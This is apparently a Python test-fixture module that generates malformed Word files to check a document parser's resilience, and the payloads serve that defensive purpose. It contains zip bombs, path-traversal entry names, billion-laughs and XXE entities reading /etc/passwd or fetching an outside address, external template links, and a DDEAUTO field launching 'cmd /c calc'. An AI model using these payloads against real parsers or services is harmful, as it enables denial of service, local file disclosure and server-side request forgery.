"""Word files that no word processor should have made."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

from malformed_zip import Entry, packed, told

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORDS = "The council was judged to be good."
MAIN, BESIDE = "word/document.xml", "word/_rels/document.xml.rels"
PARAGRAPH = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"


def part(inner: str, root: str = "document", before: str = "") -> str:
    """A part's XML; `before` stands before its root."""
    return f'<?xml version="1.0"?>{before}<w:{root} xmlns:w="{W}">{inner}</w:{root}>'


def body(inner: str, before: str = "") -> str:
    """The main part: this, and a sound paragraph."""
    return part(f"<w:body>{inner}{PARAGRAPH}</w:body>", before=before)


def word(inner: str, *, before: str = "", how: int = zipfile.ZIP_DEFLATED, **parts: str) -> bytes:
    """A Word file with this in its body, and other parts by their kind."""
    kinds = "".join(f'<Relationship Id="r{kind}" Type="{OFFICE}/{kind}" Target="{kind}.xml"/>' for kind in parts)
    others = {f"word/{kind}.xml": part(content, kind) for kind, content in parts.items()}
    relations = f'<Relationships xmlns="{RELATIONS}">{kinds}</Relationships>'
    return packed({MAIN: body(inner, before), **others, BESIDE: relations}, how=how)


def lined(count: int, how: int = zipfile.ZIP_STORED) -> bytes:
    """One run of so many megabytes, not packed, so that no ratio gives it away."""
    return word(f"<w:p><w:r><w:t>{'good ' * (count * 200_000)}</w:t></w:r></w:p>", how=how)


def related(*targets: str, main: str = body("")) -> bytes:
    """A Word file whose main part points to these, outside of the package."""
    kinds = ("attachedTemplate", "styles", "numbering", "footnotes")
    made = "".join(
        f'<Relationship Id="r{at}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for at, (kind, target, mode) in enumerate(
            (kind, target, mode) for target in targets for kind in kinds for mode in ("External", "Internal")
        )
    )
    return packed({MAIN: main, BESIDE: f'<Relationships xmlns="{RELATIONS}">{made}</Relationships>'})


def twice() -> bytes:
    """Two main parts of one name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(MAIN, body(""))
        archive.infolist()[0].filename = "x"  # so that the second is written without a warning
        archive.NameToInfo.clear()
        archive.writestr(MAIN, body("").replace("good", "inadequate"))
        archive.infolist()[0].filename = MAIN
    return out.getvalue()


def overlapping(count: int) -> bytes:
    """So many parts that all lie on the same data."""
    data = bytes(1_000_000)
    first = Entry("word/media/0", data)
    others = [Entry(f"word/media/{at}", data, at=0) for at in range(1, count)]
    main = Entry(MAIN, body("").encode())
    return told([first, *others, main])


def archive_in_archive(levels: int) -> bytes:
    """An archive in an archive and so on, ten of each, in a Word file."""
    inner = packed({"a": bytes(5_000_000)})
    for _ in range(levels):
        inner = packed({f"{at}.zip": inner for at in range(10)})
    return packed({MAIN: body(""), "word/media/a.zip": inner})


def based(count: int) -> str:
    """Styles, each based on the next, the last on the first."""
    return "".join(
        f'<w:style w:type="paragraph" w:styleId="s{at}"><w:basedOn w:val="s{(at + 1) % count}"/></w:style>'
        for at in range(count)
    )


def numbered(level: str = "0", start: str = "1", text: str = "%1.", number: str = "1", form: str = "decimal") -> bytes:
    """A numbered paragraph, its list defined with these."""
    properties = f'<w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr></w:pPr>'
    said = f'<w:start w:val="{start}"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/>'
    levels = f'<w:lvl w:ilvl="{level}">{said}</w:lvl>'
    lists = (
        f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
        f'<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    return word(f"<w:p>{properties}<w:r><w:t>item</w:t></w:r></w:p>", numbering=lists)


LAUGHS = '<!ENTITY l0 "good">' + "".join(f'<!ENTITY l{at} "' + f"&l{at - 1};" * 10 + '">' for at in range(1, 10))
RUN = "<w:r><w:t>good </w:t></w:r>"

CASES: Mapping[str, Callable[[str], bytes]] = {
    # The archive
    "archives-in-archives": lambda _: archive_in_archive(2),
    "parts-on-the-same-data": lambda _: overlapping(60),
    "parts-of-wrong-size": lambda _: told([Entry(MAIN, body("").encode(), size=10)]),
    "parts-of-gigabytes-by-their-account": lambda _: told([Entry(MAIN, body("").encode(), size=0xFFFFFFF0)]),
    "parts-packed-to-nothing-by-their-account": lambda _: told([Entry(MAIN, body("").encode(), packed_size=0)]),
    "parts-larger-than-they-say": lambda _: told([Entry(MAIN, body(RUN * 400_000).encode(), size=1000)]),
    "parts-100000": lambda _: told([*(Entry(f"a{at}", b"", method=0) for at in range(60_000)), Entry(MAIN, b"<a/>")]),
    "parts-counted-wrong": lambda _: told([Entry(MAIN, body("").encode())], count=60_000),
    "parts-listed-elsewhere": lambda _: told([Entry(MAIN, body("").encode())], places_at=0x7FFFFFFF),
    "part-outside-of-the-archive": lambda _: told([Entry(MAIN, body("").encode(), at=0x7FFFFFFF)]),
    "part-packed-in-an-unknown-way": lambda _: told([Entry(MAIN, body("").encode(), method=99)]),
    "part-encrypted": lambda _: told([Entry(MAIN, body("").encode(), flags=1)]),
    "part-in-an-unknown-encoding": lambda _: told([Entry(MAIN, body("").encode(), flags=0x2001)]),
    "parts-above-the-folder": lambda _: packed(
        {MAIN: body(""), "../../../tmp/x": "bad", "/etc/x": "bad", "C:\\x": "bad", "word/../../../y": "bad"}
    ),
    "parts-main-twice": lambda _: twice(),
    "main-part-missing": lambda _: packed({"word/styles.xml": part("", "styles"), "word/document": "a"}),
    "main-part-is-a-folder": lambda _: packed({MAIN + "/": "", "word/x": ""}),
    "main-part-elsewhere": lambda _: packed(
        {
            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{OFFICE}/officeDocument" '
            'Target="../../../../etc/passwd"/></Relationships>',
            MAIN: body(""),
        }
    ),
    "relations-to-themselves": lambda _: packed(
        {
            MAIN: body(""),
            BESIDE: f'<Relationships xmlns="{RELATIONS}"><Relationship Type="{OFFICE}/styles" '
            'Target="_rels/document.xml.rels"/></Relationships>',
        }
    ),
    "zeros-2000-to-1": lambda _: packed({MAIN: body(""), "word/media/a.bin": bytes(100_000_000)}),
    "zeros-beyond-500-megabytes": lambda _: told(
        [Entry("word/media/a", bytes(1000), size=600_000_000), Entry(MAIN, body("").encode())]
    ),
    "one-run-100-to-1": lambda _: word(f"<w:p><w:r><w:t>{'good ' * 5_000_000}</w:t></w:r></w:p>"),
    "one-run-of-29-megabytes": lambda _: lined(29),
    "one-run-of-31-megabytes": lambda _: lined(31),
    "one-run-of-95-megabytes": lambda _: lined(95),
    "one-word-of-9-megabytes": lambda _: word(
        f"<w:p><w:r><w:t>{'g' * 9_000_000}</w:t></w:r></w:p>", how=zipfile.ZIP_STORED
    ),
    "archive-after-a-megabyte-of-noise": lambda _: b"PK\3\4" + b"\0noise" * 200_000 + word(""),
    "archive-cut-in-two": lambda _: word(RUN * 1000)[:400],
    "web-page-in-its-comment": lambda _: word("")[:-2] + b"\x0d\0<html>bad</html>"[:15],
    # The XML
    "entities-that-multiply": lambda _: word(
        "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", before=f"<!DOCTYPE a [{LAUGHS}]>"
    ),
    "entity-of-a-file": lambda _: word(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before='<!DOCTYPE a [<!ENTITY x SYSTEM "canary.txt">]>'
    ),
    "entity-of-the-system": lambda _: word(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "entity-of-an-address": lambda out: word(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before=f'<!DOCTYPE a [<!ENTITY x SYSTEM "{out}">]>'
    ),
    "document-type-elsewhere": lambda out: word("", before=f'<!DOCTYPE a SYSTEM "{out}">'),
    "document-type-in-utf-7": lambda _: packed(
        {MAIN: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'}
    ),
    "document-type-in-ebcdic": lambda _: packed(
        {MAIN: '<?xml version="1.0" encoding="cp037"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("cp037")}
    ),
    "instructions-to-fetch": lambda out: word("", before=f'<?xml-stylesheet type="text/xsl" href="{out}"?>'),
    "included-from-a-file": lambda _: word(
        '<w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="canary.txt" parse="text"/></w:p>'
    ),
    "template-elsewhere": lambda out: related(out, "file:///etc/passwd", "../../../../etc/passwd", "canary.txt"),
    "elements-100000-deep": lambda _: word("<w:p>" * 100_000 + "</w:p>" * 100_000),
    "elements-200-deep": lambda _: word("<w:sdt>" * 200 + PARAGRAPH + "</w:sdt>" * 200),
    "tables-1000-deep": lambda _: word("<w:tbl><w:tr><w:tc>" * 1000 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 1000),
    "tables-80-deep": lambda _: word("<w:tbl><w:tr><w:tc>" * 80 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 80),
    "boxes-60-deep": lambda _: word(
        "<w:p><w:r><w:pict><w:txbxContent>" * 60 + PARAGRAPH + "</w:txbxContent></w:pict></w:r></w:p>" * 60
    ),
    "boxes-20000": lambda _: word(
        "<w:p>" + f"<w:r><w:pict><w:txbxContent>{PARAGRAPH}</w:txbxContent></w:pict></w:r>" * 20_000 + "</w:p>",
        how=zipfile.ZIP_STORED,
    ),
    "attribute-of-9-megabytes": lambda _: word(f'<w:p w:x="{"a" * 9_000_000}"/>', how=zipfile.ZIP_STORED),
    "attributes-50000": lambda _: word("<w:p " + " ".join(f"w:a{at}='1'" for at in range(50_000)) + "/>"),
    "namespaces-50000": lambda _: word("".join(f'<w:p xmlns:n{at}="u:{at}"/>' for at in range(50_000))),
    "names-of-a-megabyte": lambda _: word(f"<w:{'a' * 1_000_000}/>", how=zipfile.ZIP_STORED),
    "main-part-in-utf-16": lambda _: packed({MAIN: body("").replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")}),
    "main-part-in-an-unknown-encoding": lambda _: packed({MAIN: b'<?xml version="1.0" encoding="rot13"?><a/>'}),
    "main-part-of-noise": lambda _: packed({MAIN: bytes(range(256)) * 100}),
    "main-part-empty": lambda _: packed({MAIN: ""}),
    "characters-that-xml-forbids": lambda _: word("<w:p><w:r><w:t>&#0;&#xD800;</w:t></w:r></w:p>"),
    # What Word makes of it
    "styles-in-a-ring": lambda _: word(
        '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>' * 1000, styles=based(3)
    ),
    "styles-10000-in-a-ring": lambda _: word(
        '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>' * 1000, styles=based(10_000)
    ),
    "level-of-a-billion": lambda _: numbered(level="1000000000"),
    "level-below-nothing": lambda _: numbered(level="-1"),
    "level-of-no-number": lambda _: numbered(level="a"),
    "level-of-a-foreign-digit": lambda _: numbered(level="²"),
    "start-at-a-billion-letters": lambda _: numbered(start="9999999999", form="lowerLetter"),
    "start-at-a-billion-in-roman": lambda _: numbered(start="999999999", form="lowerRoman"),
    "start-at-a-foreign-digit": lambda _: numbered(start="²"),
    "start-of-10000-digits": lambda _: numbered(start="9" * 10_000),
    "mark-of-a-megabyte": lambda _: numbered(text="%1" * 200_000),
    "sizes-of-no-number": lambda _: word(
        '<w:p><w:pPr><w:ind w:left="x"/></w:pPr><w:r><w:rPr><w:sz w:val="²"/></w:rPr><w:t>a</w:t></w:r></w:p>'
    ),
    "symbol-beyond-all": lambda _: word('<w:p><w:r><w:sym w:char="FFFFFFFFFF"/><w:sym w:char="D800"/></w:r></w:p>'),
    "runs-400000": lambda _: word(f"<w:p>{RUN * 400_000}</w:p>"),
    "paragraphs-200000": lambda _: word("<w:p><w:r><w:t>good</w:t></w:r></w:p>" * 200_000, how=zipfile.ZIP_STORED),
    "paragraphs-joined-20000": lambda _: word(
        "<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr><w:r><w:t>good</w:t></w:r></w:p>" * 20_000
    ),
    "cells-100000": lambda _: word(
        "<w:tbl>"
        + ("<w:tr>" + "<w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>" * 10 + "</w:tr>") * 10_000
        + "</w:tbl>"
    ),
    "notes-20000-of-which-none-is-there": lambda _: word(
        "<w:p>" + '<w:r><w:footnoteReference w:id="1"/></w:r>' * 20_000 + "</w:p>", footnotes=""
    ),
    "notes-20000": lambda _: word(
        "<w:p>" + "".join(f'<w:r><w:footnoteReference w:id="{at}"/></w:r>' for at in range(20_000)) + "</w:p>",
        footnotes="".join(f'<w:footnote w:id="{at}">{PARAGRAPH}</w:footnote>' for at in range(20_000)),
    ),
    "note-that-notes-itself": lambda _: word(
        '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
        footnotes='<w:footnote w:id="1"><w:p><w:r><w:t>a</w:t><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>',
    ),
    "fields-never-ended": lambda _: word('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 50_000),
    "macros-and-links": lambda out: word(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO "cmd" "/c calc" INCLUDETEXT "{out}"'
        '</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}
"""By name what makes the bytes, given an address that nobody may ask for."""
